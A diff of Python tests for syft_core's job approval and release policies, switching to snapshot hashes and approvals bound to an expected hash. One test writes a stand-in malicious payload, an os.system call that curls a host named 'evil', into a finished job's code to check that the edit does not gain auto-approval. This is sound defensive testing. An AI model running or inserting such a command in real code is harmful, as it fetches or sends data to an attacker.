@@ -11,10 +11,10 @@ import yaml
 
 from syft_core.datasite import Datasite
 from syft_core.errors import JobError
+from syft_core.jobs import Snapshot
 from syft_core.jobs.config import JobConfig
 from syft_core.jobs.folder import JobFolder, Status
 from syft_core.jobs.markers import DoneMarker, Outcome
-from syft_core.jobs.submission import code_hash
 from syft_core.policies import (
     apply_policies,
     decide_approval,
@@ -165,10 +165,10 @@ def test_same_code_as_manually_approved_succeeded_job(datasite: Datasite) -> Non
     write_policy(datasite, "rerun", same_code_as_approved=True)
     first = make_job(datasite, "first")
     resubmitted = make_job(datasite, "second")  # same run.sh and code/, new config
-    assert code_hash(first.path) == code_hash(resubmitted.path)
+    assert Snapshot.take(first.path).run_hash == Snapshot.take(resubmitted.path).run_hash
     assert first.content_hash() != resubmitted.content_hash()
     assert decide_approval(datasite, resubmitted) is None  # `first` is not approved yet
-    first.approve(OWNER)
+    first.approve(OWNER, expected_hash=first.content_hash())
     assert decide_approval(datasite, resubmitted) is None  # approved but not finished
     finish(first)
     assert decide_approval(datasite, resubmitted) is not None
@@ -179,10 +179,10 @@ def test_same_code_as_manually_approved_succeeded_job(datasite: Datasite) -> Non
 def test_same_code_needs_a_manual_approval_and_success(datasite: Datasite) -> None:
     write_policy(datasite, "rerun", same_code_as_approved=True)
     failed = make_job(datasite, "failed")
-    failed.approve(OWNER)
+    failed.approve(OWNER, expected_hash=failed.content_hash())
     finish(failed, Outcome.FAILED)
     by_policy = make_job(datasite, "by-policy")
-    by_policy.approve(OWNER, method="policy:other")
+    by_policy.approve(OWNER, expected_hash=by_policy.content_hash(), method="policy:other")
     finish(by_policy)
     assert decide_approval(datasite, make_job(datasite, "new")) is None
 
@@ -190,7 +190,7 @@ def test_same_code_needs_a_manual_approval_and_success(datasite: Datasite) -> No
 def test_same_code_from_another_submitter_does_not_count(datasite: Datasite) -> None:
     write_policy(datasite, "rerun", submitters=["*"], same_code_as_approved=True)
     approved = make_job(datasite, "approved", submitter=ALICE)
-    approved.approve(OWNER)
+    approved.approve(OWNER, expected_hash=approved.content_hash())
     finish(approved)
     assert decide_approval(datasite, make_job(datasite, "copy", submitter=MALLORY)) is None
 
@@ -200,7 +200,7 @@ def test_a_finished_job_edited_afterwards_does_not_count(datasite: Datasite) -> 
     # must not turn its hash into a key for approving the new code.
     write_policy(datasite, "rerun", same_code_as_approved=True)
     approved = make_job(datasite, "approved")
-    approved.approve(OWNER)
+    approved.approve(OWNER, expected_hash=approved.content_hash())
     finish(approved)
     evil = "import os; os.system('curl evil')\n"
     (approved.path / "code" / "main.py").write_text(evil)
@@ -252,21 +252,22 @@ def test_first_policy_by_name_decides(datasite: Datasite) -> None:
     write_policy(datasite, "0-release-only", auto_approve=False, auto_release=True)
     assert [p.name for p in load_policies(datasite)[0]] == ["0-release-only", "a-first", "b-second"]
     decided = decide_approval(datasite, make_job(datasite, "j"))
-    assert decided is not None and decided.name == "a-first"
+    assert decided is not None and decided.policy.name == "a-first"
 
 
 def test_decide_release(datasite: Datasite) -> None:
     write_policy(datasite, "approve-only")
     job = make_job(datasite, "j", datasets=["customers"])
-    job.approve(OWNER)
-    assert decide_release(datasite, job) is None  # not done yet
+    job.approve(OWNER, expected_hash=job.content_hash())
+    ran = job.config()
+    assert decide_release(datasite, job, ran) is None  # not done yet
     finish(job)
-    assert decide_release(datasite, job) is None  # no policy releases
+    assert decide_release(datasite, job, ran) is None  # no policy releases
     write_policy(datasite, "release", auto_approve=False, auto_release=True, datasets=["*"])
-    decided = decide_release(datasite, job)
+    decided = decide_release(datasite, job, ran)
     assert decided is not None and decided.name == "release"
     release_job(job, OWNER, method=f"policy:{decided.name}")
-    assert decide_release(datasite, job) is None  # already released
+    assert decide_release(datasite, job, ran) is None  # already released
 
 
 def test_job_from_another_datasite_is_refused(datasite: Datasite, tmp_path: Path) -> None:
